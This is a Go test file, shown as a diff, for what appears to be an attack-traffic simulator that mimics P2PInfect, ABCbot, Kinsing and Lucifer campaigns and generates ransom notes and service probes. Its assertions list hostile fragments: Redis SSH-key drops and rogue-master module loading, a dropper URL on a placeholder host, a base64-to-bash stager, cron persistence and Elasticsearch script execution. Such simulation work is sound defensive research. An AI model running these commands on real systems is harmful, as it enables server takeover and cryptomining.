@@ -1,0 +1,118 @@
+package simnet
+
+import (
+	"encoding/base64"
+	"regexp"
+	"strings"
+	"testing"
+)
+
+func TestP2PInfectCmdsShape(t *testing.T) {
+	cmds := p2pinfectCmds("198.51.100.9", 8080, "deadbeefcafebabe")
+	joined := ""
+	for _, c := range cmds {
+		joined += strings.Join(c, " ") + "\n"
+	}
+	// The Listing 1 fingerprint: SSH-key drop, rogue master, module load,
+	// cleanup.
+	for _, marker := range []string{
+		"CONFIG SET dir /root/.ssh/",
+		"CONFIG SET dbfilename authorized_keys",
+		"CONFIG SET dbfilename exp.so",
+		"SLAVEOF 198.51.100.9 8080",
+		"MODULE LOAD /tmp/exp.so",
+		"SLAVEOF NO ONE",
+		"rm -rf /tmp/exp.so",
+	} {
+		if !strings.Contains(joined, marker) {
+			t.Errorf("p2pinfect missing %q", marker)
+		}
+	}
+}
+
+func TestABCbotCmdsCarryIOC(t *testing.T) {
+	cmds := abcbotCmds("203.0.113.5", 9000)
+	joined := ""
+	for _, c := range cmds {
+		joined += strings.Join(c, " ") + "\n"
+	}
+	// The documented ABCbot IOC is the ff.sh dropper URL.
+	if !strings.Contains(joined, "http://203.0.113.5:9000/ff.sh") {
+		t.Fatalf("abcbot IOC missing:\n%s", joined)
+	}
+	if !strings.Contains(joined, "/var/spool/cron") {
+		t.Fatal("cron drop path missing")
+	}
+}
+
+func TestKinsingStagerDecodes(t *testing.T) {
+	qs := kinsingQueries("198.51.100.7", "abc123")
+	if len(qs) != 5 {
+		t.Fatalf("queries = %d", len(qs))
+	}
+	// Extract and decode the base64 stager from the COPY statement.
+	re := regexp.MustCompile(`echo (\S+) \| base64 -d \| bash`)
+	m := re.FindStringSubmatch(qs[2])
+	if m == nil {
+		t.Fatalf("no stager in %q", qs[2])
+	}
+	script, err := base64.StdEncoding.DecodeString(m[1])
+	if err != nil {
+		t.Fatalf("stager not valid base64: %v", err)
+	}
+	s := string(script)
+	// Listing 9 fingerprints: Prometei kill, pg.sh / pg2.sh fallbacks.
+	for _, marker := range []string{"pkill -x zsvc", "pg.sh", "pg2.sh", "command -v curl"} {
+		if !strings.Contains(s, marker) {
+			t.Errorf("stager missing %q:\n%s", marker, s)
+		}
+	}
+}
+
+func TestRansomNoteTemplatesDiffer(t *testing.T) {
+	a := ransomNote(0, "bc1qA", "a@x", "C1")
+	b := ransomNote(1, "bc1qB", "b@x", "C2")
+	if a == b {
+		t.Fatal("templates identical")
+	}
+	if !strings.Contains(a, "0.0058 BTC") || !strings.Contains(b, "0.007 BTC") {
+		t.Fatalf("amounts wrong:\n%s\n%s", a, b)
+	}
+	// Both carry their parameters.
+	if !strings.Contains(a, "bc1qA") || !strings.Contains(b, "C2") {
+		t.Fatal("parameters lost")
+	}
+}
+
+func TestLuciferPayloadCarriesMiners(t *testing.T) {
+	reqs := luciferReqs("198.51.100.3", 8000)
+	joined := ""
+	for _, r := range reqs {
+		joined += r.method + " " + r.target + " " + r.body + "\n"
+	}
+	for _, marker := range []string{"script_fields", "Runtime.getRuntime().exec", "sss6", "sv6"} {
+		if !strings.Contains(joined, marker) {
+			t.Errorf("lucifer missing %q", marker)
+		}
+	}
+}
+
+func TestProbePayloads(t *testing.T) {
+	if !strings.Contains(rdpPayload(), "Cookie: mstshash=") {
+		t.Fatal("rdp payload missing cookie")
+	}
+	if !strings.HasSuffix(rdpPayload(), "\r\n") {
+		t.Fatal("rdp payload must end at the cookie line (determinism)")
+	}
+	if jdwpPayload() != "JDWP-Handshake" {
+		t.Fatal("jdwp payload")
+	}
+	craft := craftReqs()
+	if len(craft) != 1 || !strings.Contains(craft[0].body, "GuzzleHttp") {
+		t.Fatal("craft probe")
+	}
+	vmware := vmwareReqs()
+	if len(vmware) != 1 || !strings.Contains(vmware[0].body, "RetrieveServiceContent") {
+		t.Fatal("vmware probe")
+	}
+}
